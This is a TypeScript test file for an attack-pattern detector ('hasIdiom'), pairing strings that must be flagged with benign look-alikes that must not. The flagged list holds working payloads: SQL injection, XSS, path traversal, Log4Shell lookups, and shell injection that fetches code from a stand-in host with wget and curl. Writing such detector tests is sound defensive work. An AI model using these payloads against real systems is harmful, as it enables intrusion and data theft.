import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { hasIdiom } from "#model/request-facts.ts";

describe("an attack", () => {
  test.each([
    "7' UNION ALL SELECT name, pass FROM users",
    "7' or 3=3 --",
    "x') OR ('k'='k",
    "9 and (select count(*) from information_schema.tables) > 1",
    "3; WAITFOR DELAY '0:0:9'",
    "1 or sleep ( 7 )",
    "char(71)+char(72)",
    "<script>alert(7)</script>",
    '"><svg onload=confirm(7)>',
    "<img src=q onerror=alert(7)>",
    "JaVaScRiPt:alert(7)",
    "&#x6a;avascript:alert(7)",
    "../../../../var/log",
    "/%2e%2e/%2e%2e/%2e%2e/secret",
    "..%255c..%255cboot",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/x",
    "file=/etc/passwd%00.png",
    "/backend/.env.production.bak",
    "/.ENV?x=1",
    "a;cat /proc/version",
    "| wget http://192.0.2.9/x",
    "$(curl http://192.0.2.9/)",
    "() { :;}; echo",
    "{{7*7}}",
    "\u0024{jndi:ldap://192.0.2.9/a}",
    "\u0024{\u0024{lower:j}ndi:x}",
    "<?php echo 1;",
    "php://filter/read=x",
    '<!ENTITY x SYSTEM "file">',
    "T(java.lang.Runtime)",
    "1/**/UnIoN/**/SeLeCt/**/2",
    "1+union+select+2",
    "1%20union%20select%202",
    "1%2520union%2520select%25202",
    String.raw`\x3cscript\x3ealert(7)`,
  ])("is recognised in %j", (text) => {
    expect(hasIdiom(text)).toBe(true);
  });
});

describe("ordinary text", () => {
  test.each([
    "",
    "concat(first, last)",
    "fast -- and small",
    "look at the file .env",
    "/blog/process.env.html and /.envelope/",
    "operating system (64 bit)",
    "Please select a size from the list",
    "the union of both, or the selected one",
    "price>=25 and price<=637",
    "(stock>0) and (rating>=4)",
    "color in ('red','blue') or size = 4",
    "O'Brien or Smith",
    "order by date",
    "drop us a line; update your profile",
    '<p class="note">Hello <b>world</b></p><a href="https://shop.example/a?b=1&c=2">x</a>',
    "for (let i = 0; i < 8; i++) { run(i); }",
    "https://shop.example/blog/how-to-sleep-better?utm_source=news&utm_medium=mail",
    '{"items":[{"id":354,"n":1}]}',
    "5 * 4 = 20",
    "100 % cotton + 5 % off",
    "%",
    "%zz%",
    "R&D; ls 460",
  ])("is none in %j", (text) => {
    expect(hasIdiom(text)).toBe(false);
  });
});

test("only the beginning of a text is read", () => {
  expect(hasIdiom(`${"a ".repeat(1_000)}<script>`)).toBe(true);
  expect(hasIdiom(`${"a ".repeat(1_100)}<script>`)).toBe(false);
});

test("any text ends, with pieces of idioms as well", () => {
  const piece = fc.constantFrom(
    "' or ",
    "select ",
    "(",
    "char(1)",
    "../",
    "%2",
    "5c",
    "<svg ",
    "\u0024{",
    "1=",
    "/**/",
    " ",
    "\\x",
    "&#",
    "on",
  );
  fc.assert(
    fc.property(
      fc.oneof(
        fc.string({ unit: "binary" }),
        fc.array(piece, { maxLength: 60 }).map((all) => all.join("")),
      ),
      (text) => {
        expect(typeof hasIdiom(text)).toBe("boolean");
      },
    ),
  );
  for (const text of [
    "(select",
    "' or ",
    "char (1)",
    "<img ",
    "%25",
    "../",
    "((((",
    "\u0024{\u0024{",
    "a",
    "1 = 1",
    "\\x5c",
    "http://1.1.1.1/",
  ])
    expect(typeof hasIdiom(text.repeat(100_000))).toBe("boolean");
});
